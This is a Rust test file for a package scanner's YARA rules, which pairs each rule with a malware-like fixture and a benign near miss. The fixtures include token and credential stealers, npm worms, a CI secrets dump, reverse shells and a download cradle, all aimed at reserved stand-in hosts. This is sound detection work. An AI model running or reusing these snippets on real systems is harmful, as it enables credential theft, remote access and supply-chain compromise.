//! DSCA811 yara-match: dsca's built-in YARA rules, each with a fixture that triggers it
//! and a near miss that must not, and the user's own rules (`--rules DIR`).
//! The fixtures imitate malware against reserved names (`*.example`, `*.invalid`) and
//! documentation addresses (192.0.2.0/24, 198.51.100.0/24, 203.0.113.0/24).

use crate::common::Fixture;
use dsca_model::{Category, Finding, Severity};
use dsca_rules::YaraRules;
use insta::assert_yaml_snapshot;
use serde_json::json;

fn library(path: &str, code: &str) -> Fixture {
    Fixture::tarball(json!({"name": "demo-pkg", "version": "1.0.0", "main": "index.js"}))
        .file("index.js", b"module.exports = 1;\n")
        .file(path, code.as_bytes())
}

fn yara_findings(fixture: &Fixture) -> Vec<Finding> {
    fixture.code_findings("DSCA811")
}

/// The names of the YARA rules a fixture matches.
fn matched_rules(fixture: &Fixture) -> Vec<String> {
    yara_findings(fixture)
        .iter()
        .filter_map(|f| {
            f.message
                .split("matches YARA rule `")
                .nth(1)
                .and_then(|rest| rest.split('`').next())
                .map(str::to_string)
        })
        .collect()
}

const DISCORD_GRABBER: &str = r#"const fs = require('fs'), path = require('path'), https = require('https');
const roots = [path.join(process.env.APPDATA, 'discord'), path.join(process.env.APPDATA, 'discordcanary')];
const found = [];
for (const root of roots) {
  const dir = path.join(root, 'Local Storage', 'leveldb');
  for (const name of fs.readdirSync(dir)) {
    const text = fs.readFileSync(path.join(dir, name), 'utf8');
    for (const m of text.match(/[\w-]{24}\.[\w-]{6}\.[\w-]{27}/g) || []) found.push(m);
  }
}
https.request({ hostname: 'hooks.example', method: 'POST' }).end(JSON.stringify(found));
"#;

#[test]
fn dsca811_discord_token_grabber() {
    let fixture = library("lib/grab.js", DISCORD_GRABBER);
    let findings = yara_findings(&fixture);
    assert_yaml_snapshot!(findings);
    assert_eq!(findings.len(), 1);
    assert_eq!(findings[0].severity, Severity::Critical);
    assert_eq!(findings[0].category, Category::Filesystem);
    assert!(findings[0].message.contains("dsca_discord_token_grabber"));
}

#[test]
fn dsca811_discord_bot_library_is_not_a_grabber() {
    // A bot posts to a webhook and stores its own settings: no token search in LevelDB.
    let fixture = library(
        "lib/bot.js",
        "const url = 'https://discord.com/api/webhooks/1/abc';\nconst store = require('./leveldb-store');\nmodule.exports = (msg) => fetch(url, { method: 'POST', body: JSON.stringify({ content: msg }) });\n",
    );
    assert!(yara_findings(&fixture).is_empty());
}

/// One fixture per built-in rule that must trigger it, and a near miss that must not.
const CASES: &[(&str, &str, &str)] = &[
    (
        "dsca_browser_credential_stealer",
        r#"const p = path.join(process.env.LOCALAPPDATA, 'Google\\Chrome\\User Data');
const state = JSON.parse(fs.readFileSync(path.join(p, 'Local State')));
const key = dpapi.CryptUnprotectData(Buffer.from(state.os_crypt.encrypted_key, 'base64').slice(5));
const db = new sqlite.Database(path.join(p, 'Default', 'Login Data'));"#,
        // Puppeteer-like: launches Chrome with a profile directory, reads nothing of it.
        r#"const userDataDir = path.join(os.tmpdir(), 'Google\\Chrome\\User Data');
launch({ args: ['--user-data-dir=' + userDataDir] });"#,
    ),
    (
        "dsca_crypto_wallet_stealer",
        r#"const ext = path.join(profile, 'Local Extension Settings');
for (const id of ['nkbihfbeogaeaoehlefnkodbefgpgknn', 'bfnaelmomeimhlpmgjnjophhpkkoljpa']) copy(path.join(ext, id));"#,
        // A dapp detecting one wallet by its extension id.
        r#"const METAMASK_ID = 'nkbihfbeogaeaoehlefnkodbefgpgknn';
export const installUrl = 'https://chrome.google.com/webstore/detail/' + METAMASK_ID;"#,
    ),
    (
        "dsca_credential_file_sweep",
        r#"const targets = ['.ssh/id_rsa', '.aws/credentials', '.docker/config.json', '.kube/config', '.git-credentials', '.npmrc'];
targets.forEach(t => upload(path.join(os.homedir(), t)));"#,
        r#"// where the AWS SDK looks for its profile
const file = path.join(os.homedir(), '.aws/credentials');"#,
    ),
    (
        "dsca_env_dump_to_webhook",
        r#"fetch('https://webhook.site/00000000-0000-0000-0000-000000000000', { method: 'POST', body: JSON.stringify(process.env) });"#,
        r#"const config = { ...defaults, token: process.env.TOKEN };
// docs: https://webhook.site is handy to inspect requests"#,
    ),
    (
        "dsca_host_recon_to_oob_host",
        r#"const q = [os.hostname(), os.userInfo().username, __dirname].join('.');
dns.lookup(hex(q) + '.abcdef.oast.fun', () => {});"#,
        r#"console.log(os.hostname(), os.userInfo().username);"#,
    ),
    (
        "dsca_npm_token_worm",
        r#"const token = readNpmrc()._authToken;
const me = await get('https://registry.npmjs.org/-/whoami', token);
const pkgs = await get('https://registry.npmjs.org/-/v1/search?text=maintainer:' + me.username);
for (const p of pkgs) { pkg.scripts.postinstall = 'node bundle.js'; exec('npm publish'); }"#,
        // A release tool: publishes its own package with a token, lists nothing.
        r#"const token = process.env.NPM_TOKEN;
await exec('npm publish --access public');
const me = await get('https://registry.npmjs.org/-/whoami', token);"#,
    ),
    (
        "dsca_ci_secrets_dump",
        r#"fs.writeFileSync('.github/workflows/ci.yml', 'run: echo "${{ toJSON(secrets) }}" | curl -d @- https://collect.example');"#,
        r#"fs.writeFileSync('.github/workflows/ci.yml', 'run: npm test');"#,
    ),
    (
        "dsca_reverse_shell_one_liner",
        r#"require('child_process').exec("bash -i >& /dev/tcp/192.0.2.10/4444 0>&1");"#,
        r#"// probe a port: exec('nc -z 192.0.2.10 4444')"#,
    ),
    (
        "dsca_powershell_download_cradle",
        r#"exec("powershell -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.4/a.ps1')\"");"#,
        r#"exec('powershell -NoProfile -Command Get-ChildItem');"#,
    ),
    (
        "dsca_cryptominer",
        r#"spawn('./xmrig', ['-o', 'stratum+tcp://pool.example:3333', '-u', 'wallet', '--donate-level', '1']);"#,
        r#"// randomx is a proof-of-work algorithm; this module only benchmarks hashing"#,
    ),
    (
        "dsca_embedded_executable_base64",
        r#"fs.writeFileSync('a.exe', Buffer.from('TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAA', 'base64'));"#,
        r#"const wasm = Buffer.from('AGFzbQEAAAABBgFgAX8BfwMCAQAHBwEDZm9vAAAKCQEHACAAQQFqCw==', 'base64');"#,
    ),
    (
        "dsca_javascript_obfuscator_runtime",
        r#"function _0x3a1b(){var _0x5c2d=['log','hello'];_0x3a1b=function(){return _0x5c2d;};return _0x3a1b();}
(function(_0x1f2e,_0x4b3c){var _0x2a9f=_0x1f2e();while(!![]){try{var _0x6d1c=-parseInt(_0x2a9f[0]);if(_0x6d1c===_0x4b3c)break;else _0x2a9f['push'](_0x2a9f['shift']());}catch(_0x7e0a){_0x2a9f['push'](_0x2a9f['shift']());}}}(_0x3a1b,0x1));"#,
        // Minified, not obfuscated.
        r#"function a(){var b=['log','hello'];return b}while(c){try{d()}catch(e){}}"#,
    ),
    (
        "dsca_discord_client_injection",
        r#"const dir = path.join(appdata, 'discord', version, 'modules', 'discord_desktop_core');
fs.writeFileSync(path.join(dir, 'index.js'), payload);"#,
        r#"// Discord's own modules live in discord_desktop_core; we only read the version.
const version = require('./discord-version.json');"#,
    ),
    (
        "dsca_messenger_session_stealer",
        r#"const tdata = path.join(process.env.APPDATA, 'Telegram Desktop', 'tdata');
zip(tdata, '/tmp/t.zip');"#,
        r#"// Telegram Desktop bot for notifications
bot.sendMessage(chatId, 'build done');"#,
    ),
    (
        "dsca_macos_keychain_or_password_phish",
        r#"execSync(`osascript -e 'display dialog "macOS needs your password" default answer "" with hidden answer'`);"#,
        r#"execSync(`osascript -e 'display notification "Build finished"'`);"#,
    ),
    (
        "dsca_crypto_clipper",
        r#"const clipboardy = require('clipboardy');
setInterval(() => { const t = clipboardy.readSync();
  if (/^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$/.test(t)) clipboardy.writeSync(MINE_BTC);
  else if (/^0x[a-fA-F0-9]{40}$/.test(t)) clipboardy.writeSync(MINE_ETH); }, 500);"#,
        // An address validator with no clipboard in sight.
        r#"export const isEth = (a) => /^0x[a-fA-F0-9]{40}$/.test(a);
export const isBtc = (a) => /^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$/.test(a);"#,
    ),
    (
        "dsca_browser_wallet_hijack",
        r#"const W=['0x1111111111111111111111111111111111111111','0x2222222222222222222222222222222222222222','0x3333333333333333333333333333333333333333'];
const F=window.fetch;window.fetch=async function(...a){const r=await F.apply(this,a);return swap(r,W)};"#,
        // A retry wrapper around fetch and a token list, in one bundle, never together
        // with the hook: the address list lives in a file that does not hook.
        r#"const F=window.fetch;window.fetch=async function(...a){for(let i=0;i<3;i++){try{return await F.apply(this,a)}catch(e){}}};
const TOKENS={USDC:'0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48'};"#,
    ),
    (
        "dsca_ssh_authorized_keys_backdoor",
        r#"fs.appendFileSync(path.join(os.homedir(), '.ssh', 'authorized_keys'), '\nssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGV4YW1wbGVrZXlleGFtcGxla2V5ZXhhbXBsZWtleWV4YW1wbGU attacker@example\n');"#,
        r#"// sshd reads ~/.ssh/authorized_keys; see the README to add your key
const file = path.join(os.homedir(), '.ssh', 'authorized_keys');
const keys = fs.readFileSync(file, 'utf8');"#,
    ),
    (
        "dsca_esoteric_encoder",
        r#"$=~[];$={___:++$,$$$$:(![]+"")[$],__$:++$,$_$_:(![]+"")[$]};"#,
        r#"var $ = jQuery; $.each([], function(){});"#,
    ),
];

#[test]
fn dsca811_each_builtin_rule_has_a_fixture_and_a_near_miss() {
    let described: Vec<String> = YaraRules::builtin()
        .describe()
        .into_iter()
        .map(|rule| rule.name)
        .collect();
    for (rule, triggers, near_miss) in CASES {
        assert!(described.contains(&rule.to_string()), "{rule} is built in");
        let matched = matched_rules(&library("lib/x.js", triggers));
        assert!(
            matched.contains(&rule.to_string()),
            "{rule} must match its fixture, matched {matched:?}"
        );
        let missed = matched_rules(&library("lib/x.js", near_miss));
        assert!(
            !missed.contains(&rule.to_string()),
            "{rule} must not match its near miss"
        );
    }
    // Every built-in rule is covered here or by its own test above.
    for name in &described {
        assert!(
            name == "dsca_discord_token_grabber" || CASES.iter().any(|(rule, _, _)| rule == name),
            "{name} has no fixture"
        );
    }
}

#[test]
fn dsca811_every_file_is_scanned_not_only_code() {
    // The one-liner sits in a file no code rule reads.
    let fixture = library(
        "assets/setup.conf",
        "ExecStart=/bin/bash -c 'bash -i >& /dev/tcp/203.0.113.5/9001 0>&1'\n",
    );
    let findings = yara_findings(&fixture);
    assert_eq!(findings.len(), 1);
    let evidence = &findings[0].evidence[0];
    assert_eq!(
        evidence.location.as_ref().map(|l| l.file.as_str()),
        Some("assets/setup.conf")
    );
    assert_eq!(evidence.location.as_ref().and_then(|l| l.line), Some(1));
    assert!(
        evidence
            .snippet
            .as_deref()
            .unwrap_or("")
            .contains("/dev/tcp/")
    );
}

#[test]
fn dsca811_a_match_in_documentation_only_weighs_little() {
    let fixture = library(
        "README.md",
        "Never run `bash -i >& /dev/tcp/192.0.2.1/4444 0>&1` on a server you care about.\n",
    );
    let findings = yara_findings(&fixture);
    assert_eq!(findings.len(), 1);
    assert_eq!(findings[0].severity, Severity::Low);
}

#[test]
fn dsca811_one_finding_per_rule_across_files() {
    let fixture = library("lib/a.js", DISCORD_GRABBER)
        .file("lib/b.js", DISCORD_GRABBER.as_bytes())
        .file("lib/c.js", DISCORD_GRABBER.as_bytes());
    let findings = yara_findings(&fixture);
    assert_eq!(findings.len(), 1);
    assert!(
        findings[0].message.contains("and 2 other files"),
        "{}",
        findings[0].message
    );
}

fn rules_dir(files: &[(&str, &str)]) -> tempfile::TempDir {
    let dir = tempfile::tempdir().expect("temporary directory");
    for (name, text) in files {
        std::fs::write(dir.path().join(name), text).expect("write rule file");
    }
    dir
}

#[test]
fn dsca811_user_rules_carry_their_metadata() {
    let dir = rules_dir(&[
        (
            "team.yar",
            r#"rule internal_beacon {
    meta:
        description = "Calls our canary host"
        severity = "high"
        category = "network"
        reference = "TICKET-1"
    strings:
        $host = "canary.corp.invalid"
    condition:
        $host
}
rule no_meta { strings: $a = "plain-marker-string" condition: $a }
"#,
        ),
        ("notes.txt", "not a rule file"),
    ]);
    let rules = YaraRules::with_user_rules(dir.path()).expect("rules compile");
    assert!(rules.len() > YaraRules::builtin().len());
    let fixture = library(
        "lib/x.js",
        "fetch('https://canary.corp.invalid/ping'); // plain-marker-string\n",
    );
    let analysis = dsca_rules::analyse_code_with_rules(&fixture.context(), &rules, None);
    let mut findings: Vec<Finding> = analysis
        .findings
        .into_iter()
        .filter(|f| f.rule == "DSCA811")
        .collect();
    findings.sort_by(|a, b| a.message.cmp(&b.message));
    assert_eq!(findings.len(), 2);
    let beacon = &findings[0];
    assert!(
        beacon.message.contains("internal_beacon"),
        "{}",
        beacon.message
    );
    assert!(beacon.message.contains("team.yar"), "{}", beacon.message);
    assert!(beacon.message.contains("Calls our canary host"));
    assert_eq!(beacon.severity, Severity::High);
    assert_eq!(beacon.category, Category::Network);
    assert!(
        beacon
            .evidence
            .iter()
            .any(|e| e.detail.contains("reference: TICKET-1"))
    );
    // Without metadata: the rule's defaults.
    assert_eq!(findings[1].severity, Severity::Medium);
    assert_eq!(findings[1].category, Category::Content);
    // The built-in rules still run alongside.
    assert!(
        dsca_rules::analyse_code_with_rules(
            &library("x.js", DISCORD_GRABBER).context(),
            &rules,
            None
        )
        .findings
        .iter()
        .any(|f| f.message.contains("dsca_discord_token_grabber"))
    );
}

#[test]
fn dsca811_user_rule_errors_are_one_line_with_file_and_line() {
    let dir = rules_dir(&[(
        "broken.yar",
        "rule fine { condition: true }\n\nrule broken {\n  strings:\n    $a = \"x\"\n  condition:\n    $a and $b\n}\n",
    )]);
    let err = YaraRules::with_user_rules(dir.path())
        .unwrap_err()
        .to_string();
    assert!(!err.contains('\n'), "{err}");
    let expected = format!("{}:7: ", dir.path().join("broken.yar").display());
    assert!(err.starts_with(&expected), "{err}");

    let empty = rules_dir(&[]);
    let err = YaraRules::with_user_rules(empty.path())
        .unwrap_err()
        .to_string();
    assert!(err.contains("no .yar or .yara files"), "{err}");
}

#[test]
fn dsca811_an_npm_worm_driving_the_npm_cli_is_a_worm_too() {
    // The registry API calls of the fixture above, through the CLI: `npm whoami`, `npm
    // search maintainer:…`, a patch bump and `npm publish` with the stolen token.
    let worm = r#"const npmrc = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');
const token = (npmrc.match(/_authToken=(.+)/) || [])[1];
const who = execSync('npm whoami').toString().trim();
for (const p of JSON.parse(execSync(`npm search --json maintainer:${who}`).toString())) {
  execSync(`npm pack ${p.name}`);
  execSync('npm version patch --no-git-tag-version');
  execSync('npm publish', { env: { ...process.env, NPM_TOKEN: token } });
}"#;
    let fixture = library("lib/sync.js", worm);
    assert_eq!(matched_rules(&fixture), ["dsca_npm_token_worm"]);
    // A release script checks who is logged in, bumps and publishes its own package.
    let release = r#"const token = process.env.NPM_TOKEN;
execSync('npm whoami', { env: { ...process.env, NPM_TOKEN: token } });
execSync('npm version patch');
execSync('npm publish --access public');"#;
    let fixture = library("scripts/release.js", release);
    assert!(matched_rules(&fixture).is_empty());
}
